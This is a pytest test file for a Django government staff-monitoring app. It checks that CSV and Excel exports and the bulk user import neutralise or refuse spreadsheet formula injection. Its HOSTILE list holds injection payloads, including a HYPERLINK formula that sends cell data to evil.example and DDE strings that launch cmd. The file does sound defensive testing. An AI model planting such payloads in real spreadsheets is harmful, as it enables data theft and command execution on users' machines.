"""CSV and Excel formula injection (finding 3 of the outside probe): a name typed as a formula comes
out of every export as text a spreadsheet program shows and never runs, and the bulk user import
refuses such names."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from esop.text import FORMULA_STARTS, SpreadsheetCSVWriter, spreadsheet_cell
from monitoring import exports
from monitoring.services import snapshots_take
from org.models import Unit, User
from tests.factories import UnitFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells_start_like_formulas(rows) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", HOSTILE)
def test_spreadsheet_cell_keeps_the_text_but_never_as_a_formula(value):
    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Dinas Kesehatan") == "Dinas Kesehatan" and spreadsheet_cell(12) == 12


def test_SpreadsheetCSVWriter_neutralises_every_cell():
    out = io.StringIO()
    SpreadsheetCSVWriter(out).writerow([*HOSTILE, "biasa", 3])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert _cells_start_like_formulas([row]) == []
    assert row[: len(HOSTILE)] == ["'" + v for v in HOSTILE] and row[-2:] == ["biasa", "3"]


@pytest.mark.django_db
@pytest.mark.parametrize("history", [False, True], ids=["figures", "history"])
def test_dashboard_csv_downloads_carry_no_live_formula(client, agency, head, history):
    for n, name in enumerate(HOSTILE):
        UnitFactory(parent=agency.unit, code=f"JAHAT{n}", name=name)
    if history:
        snapshots_take(today=datetime.date.today())
    client.force_login(head)
    url = reverse("monitoring:dashboard_csv") + f"?unit={agency.unit.pk}" + ("&riwayat=1" if history else "")
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) > 1
    assert _cells_start_like_formulas(rows) == []
    if not history:
        names = [row[1] for row in rows[1:]]
        assert all("'" + name in names for name in HOSTILE)


@pytest.mark.django_db
def test_monitoring_excel_report_writes_a_hostile_unit_name_as_text(agency, head):
    Unit.objects.filter(pk=agency.unit.pk).update(name=HOSTILE[0])
    agency.unit.refresh_from_db()
    report = exports.evaluation_report(agency.unit, datetime.date(2026, 1, 1), datetime.date.today(), head)
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(report))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(HOSTILE[0].upper() in str(v) for v in values)  # the agency lines are in capitals
    assert _cells_start_like_formulas([values]) == []
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE[:4])
def test_bulk_user_import_refuses_a_name_or_position_that_starts_like_a_formula(client, superuser, agency, value):
    client.force_login(superuser)
    lines = [
        f"198805122014022001;{value};Analis;rina@example.go.id;DINAS;penyusun",
        f"198805122014022002;Budi;{value};budi@example.go.id;DINAS;penyusun",
    ]
    upload = SimpleUploadedFile(
        "pegawai.csv", ("NIP;Nama;Jabatan;Email;Kode unit;Peran\n" + "\n".join(lines) + "\n").encode()
    )
    users = User.objects.count()
    page = client.post(reverse("org:user_import"), {"file": upload}).content.decode()
    assert "2 baris salah" in page
    assert "Nama tidak boleh diawali" in page and "Jabatan tidak boleh diawali" in page
    response = client.post(reverse("org:user_import"), {"confirm": "1"})
    assert User.objects.count() == users
    assert response.status_code in (200, 400)
